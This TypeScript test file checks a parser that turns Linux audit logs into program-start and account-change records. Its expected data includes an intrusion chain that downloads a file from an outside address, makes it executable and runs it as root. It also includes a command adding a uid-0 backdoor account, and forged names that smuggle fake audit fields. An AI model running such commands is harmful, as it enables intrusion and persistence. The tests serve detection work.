/**
 * `audit-exec`: each program that starts and each change of accounts is one record, whatever order its lines come in, all
 * else is counted, and names that an attacker chose stay names.
 */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import type { WireRecord } from '../../host/wire.js';
import { ledgerAddsUp, type RunOptions, type RunResult, runFilter, stream } from '../../test/filter.js';

const ROOT = fileURLToPath(new URL('../../..', import.meta.url));
const CORPUS = join(ROOT, '../shared/corpus/audit');
const START_MS = 1_769_853_600_000;

function run(input: readonly string[] | Uint8Array, options?: RunOptions): RunResult {
  const result = runFilter('audit-exec', input, options);
  assert.ok(ledgerAddsUp(result));
  return result;
}

/** A record of an event, at the start of a second. */
const line = (serial: number, type: string, body = '', second = 0) =>
  `type=${type} msg=audit(${START_MS / 1000 + second}.000:${serial}): ${body}`;

/** What encodes a text that a program chose. */
const hex = (text: string) => Buffer.from(text).toString('hex').toUpperCase();

const call = (rest: string) =>
  `arch=c000003e syscall=59 success=yes exit=0 ppid=6 pid=7 auid=1000 uid=1000 euid=0 tty=pts0 ${rest}`;

/** The only record that lines give. */
function recordOf(...lines: string[]): WireRecord {
  const { records } = run(lines);
  assert.is(records.length, 1, JSON.stringify(records));
  return records[0] as WireRecord;
}

test('of the sample the intrusion is told, and the rest counted', () => {
  const result = run(readFileSync(join(ROOT, 'filters/audit-exec/samples/intrusion.log')));
  assert.equal(
    stream(result, 'execs').map(({ host, pid, euid, cmdline, truncated }) => [
      host,
      pid,
      euid,
      cmdline,
      truncated,
    ]),
    [
      ['gw-01', 2110, 1000, 'curl -so /tmp/.x http://203.0.113.9/p?uid=0', undefined],
      ['gw-01', 2111, 1000, 'sh -c chmod +x /tmp/.x', undefined],
      ['gw-01', 2112, 0, '/tmp/.x', undefined],
    ],
  );
  assert.equal(
    stream(result, 'changes').map(({ type, acct, grp, cmd, res, lost }) => [type, acct, grp, cmd, res, lost]),
    [
      ['USER_CMD', undefined, undefined, 'useradd -o -u 0 backup', 'success', undefined],
      ['ADD_USER', 'backup', undefined, undefined, 'success', undefined],
      ['USER_MGMT', 'backup', 'wheel', undefined, 'success', 2],
      ['USER_CHAUTHTOK', 'backup', undefined, undefined, 'success', 2],
    ],
  );
  assert.equal(stream(result, 'counts'), [
    { ts: START_MS, window_ms: 60_000, type: 'USER_LOGIN', count: 1 },
    { ts: START_MS + 60_000, window_ms: 60_000, type: 'SERVICE_START', count: 2 },
  ]);
});

test('a start has what its records say, in whichever order they come', () => {
  const lines = [
    line(1, 'SYSCALL', call('comm="ls" exe="/bin/ls" key="exec"')),
    line(1, 'EXECVE', `argc=2 a0="ls" a1=${hex('a b')}`),
    line(1, 'CWD', 'cwd="/root"'),
  ];
  const expected = {
    stream: 'execs',
    ts: START_MS,
    cmdline: 'ls a b',
    argc: 2,
    auid: 1000,
    uid: 1000,
    euid: 0,
    ppid: 6,
    pid: 7,
    exe: '/bin/ls',
    comm: 'ls',
    tty: 'pts0',
    key: 'exec',
    success: 'yes',
    cwd: '/root',
  };
  assert.equal(recordOf(...lines, line(1, 'EOE')), expected);
  assert.equal(recordOf(...lines.toReversed(), line(1, 'PROCTITLE', 'proctitle=6C73')), expected);
  assert.equal(recordOf(...lines), expected, 'without an end');
});

test('what is unset, unknown or no number is absent', () => {
  const exec = line(1, 'EXECVE', 'argc=1 a0="ls"');
  assert.equal(recordOf(line(1, 'SYSCALL', 'auid=4294967295 uid=-1 pid=x7 exe=? key=(null)'), exec), {
    stream: 'execs',
    ts: START_MS,
    cmdline: 'ls',
    argc: 1,
  });
  assert.equal(recordOf(line(1, 'DEL_USER', "pid=7 auid=4294967295 msg='op=delete acct=? res=failed'")), {
    stream: 'changes',
    ts: START_MS,
    type: 'DEL_USER',
    pid: 7,
    op: 'delete',
    res: 'failed',
  });
});

test('the names that an attacker chose cannot pass for what the kernel says', () => {
  const forged = 'x" exe="/bin/ls" auid=0 success=no key="a"';
  const found = recordOf(
    line(1, 'SYSCALL', call(`comm=${hex(forged)} exe=${hex(`/tmp/${forged}`)} key=(null)`)),
    line(1, 'EXECVE', `argc=4 a0="exe=/bin/ls" a1="auid=0" a2=${hex(forged)} a3="cwd=/"`),
    line(1, 'CWD', `cwd=${hex(`/tmp/${forged}`)}`),
    line(1, 'EOE'),
  );
  assert.is(found.comm, forged);
  assert.is(found.exe, `/tmp/${forged}`);
  assert.is(found.cwd, `/tmp/${forged}`);
  assert.is(found.cmdline, `exe=/bin/ls auid=0 ${forged} cwd=/`);
  assert.equal([found.auid, found.success, found.key], [1000, 'yes', undefined]);
  // Without a record of the call nothing else speaks for it.
  const alone = recordOf(line(1, 'EXECVE', 'argc=1 a0="ls" exe="/bin/ls" auid=0'));
  assert.equal([alone.exe, alone.auid, alone.cmdline], [undefined, undefined, 'ls']);
});

test('an account that an attacker named is a name, and so is a command of sudo', () => {
  const forged = 'eve" uid=0 addr=192.0.2.1 res=success';
  const tail = 'exe="/usr/bin/passwd" addr=203.0.113.9 terminal=pts/0 res=failed';
  const found = recordOf(
    line(1, 'USER_CHAUTHTOK', `pid=7 uid=5 auid=6 msg='op=chauthtok acct=${hex(forged)} ${tail}'`),
  );
  assert.equal(
    [found.acct, found.uid, found.addr, found.res, found.terminal],
    [forged, 5, '203.0.113.9', 'failed', 'pts/0'],
  );
  const sudo = recordOf(
    line(1, 'USER_CMD', `pid=7 uid=5 auid=6 msg='cwd="/" cmd=${hex(`ls ${forged}`)} res=failed'`),
  );
  assert.equal([sudo.cmd, sudo.uid, sudo.res, sudo.addr], [`ls ${forged}`, 5, 'failed', undefined]);
});

test('each type of change is told, with its name or its number, and no other', () => {
  const manifest = readFileSync(join(ROOT, 'filters/audit-exec/filter.json'), 'utf8');
  const { selects } = JSON.parse(manifest) as { selects: string };
  const named = selects.match(/\b[A-Z]+_[A-Z]+\b/g) ?? [];
  const types = ['1114', 'UNKNOWN[2301]', ...named];
  const result = run(types.map((type, serial) => line(serial + 1, type, 'pid=7')));
  assert.equal(
    stream(result, 'changes').map(({ type }) => type),
    ['ADD_USER', 'ROLE_ASSIGN', ...named],
  );
  assert.is(named.length, 16);
  const others = run(['ADD_USERS', 'USER_ROLE_CHANGE', 'SYSCALL'].map((type, at) => line(at + 1, type)));
  assert.equal(
    others.records.map(({ stream: to, type }) => [to, type]),
    [
      ['counts', 'USER_ROLE_CHANGE'],
      ['counts', 'ADD_USERS'],
      ['counts', 'SYSCALL'],
    ],
  );
});

test('a command line of many kilobytes is cut, says so, and what follows is whole', () => {
  const piece = 'x'.repeat(7_500);
  const lines = [line(1, 'SYSCALL', call('comm="sh" exe="/bin/sh"')), line(1, 'EXECVE', 'argc=9 a0="sh"')];
  for (let at = 1; at < 9; at++) lines.push(line(1, 'EXECVE', `a${at}="${piece}"`));
  const next = [line(2, 'SYSCALL', call('exe="/bin/ls"')), line(2, 'EXECVE', 'argc=1 a0="ls"')];
  const result = run([...lines, line(1, 'EOE'), ...next, line(2, 'EOE')]);
  const [long, short] = stream(result, 'execs');
  assert.is(long?.truncated, true);
  assert.is(long?.cmdline, `sh${` ${piece}`.repeat(4)}`);
  assert.equal([long?.argc, long?.exe], [9, '/bin/sh']);
  assert.equal([short?.exe, short?.cmdline, short?.truncated], ['/bin/ls', 'ls', undefined]);
  assert.is(result.ledger.overflowed, 4);
});

test('types past the table are counted together, lines of something else are malformed', () => {
  const letters = (at: number) => String.fromCharCode(65 + (at >> 5), 65 + (at & 15), 65 + ((at >> 4) & 1));
  const many = Array.from({ length: 300 }, (_, at) => line(at + 1, `Z${letters(at)}`));
  const counts = stream(run(many), 'counts');
  assert.is(counts.length, 257);
  assert.equal(counts.at(-1), { ts: START_MS, window_ms: 60_000, overflow: true, count: 44 });
  assert.is(run(['junk', 'type=', 'Jan 31 10:00:00 fw sshd[7]: type=ADD_USER']).ledger.malformed, 3);
});

test('every file of the corpus runs, and its ledger adds up', () => {
  if (!existsSync(CORPUS)) return console.log(`\nnote: skipped, there is no ${CORPUS}`);
  const files = readdirSync(CORPUS, { recursive: true, encoding: 'utf8', withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name));
  let told = 0;
  for (const file of files) told += run(readFileSync(file)).records.length;
  console.log(`\nnote: ${files.length} files of audit records give ${told} records`);
  assert.ok(told > 50);
});

test('useradd of the corpus is told step by step', () => {
  const file = join(CORPUS, 'beats/useradd.log');
  if (!existsSync(file)) return console.log(`\nnote: skipped, there is no ${file}`);
  const result = run(readFileSync(file));
  assert.equal(
    stream(result, 'changes').map(({ type, id, acct, exe, res }) => [type, id ?? acct, exe, res]),
    [
      ['ADD_GROUP', 1004, '/usr/sbin/groupadd', 'success'],
      ['ADD_GROUP', 1004, '/usr/sbin/groupadd', 'success'],
      ['ADD_GROUP', 1004, '/usr/sbin/groupadd', 'success'],
      ['ADD_USER', 1004, '/usr/sbin/useradd', 'success'],
      ['USER_CHAUTHTOK', 'charlie', '/usr/bin/passwd', 'success'],
    ],
  );
  assert.is(
    stream(result, 'counts').reduce((sum, { count }) => sum + Number(count), 0),
    3,
  );
});

test('go-libaudit: in order and out of order the same programs start', () => {
  const folder = join(CORPUS, 'go-libaudit/reassembly');
  if (!existsSync(folder)) return console.log(`\nnote: skipped, there is no ${folder}`);
  const [normal, mixed] = ['normal.log', 'out_of_order.log'].map((name) =>
    stream(run(readFileSync(join(folder, name))), 'execs'),
  );
  assert.equal(mixed, normal);
  assert.equal(
    normal?.map(({ cmdline, exe, cwd, pid }) => [cmdline, exe, cwd, pid]),
    [
      ['grep --color=auto mapping', '/usr/bin/grep', '/home/andrew_kroh', 13393],
      ['cat securitybeat', '/usr/bin/cat', '/home/andrew_kroh', 13392],
    ],
  );
});

test.run();
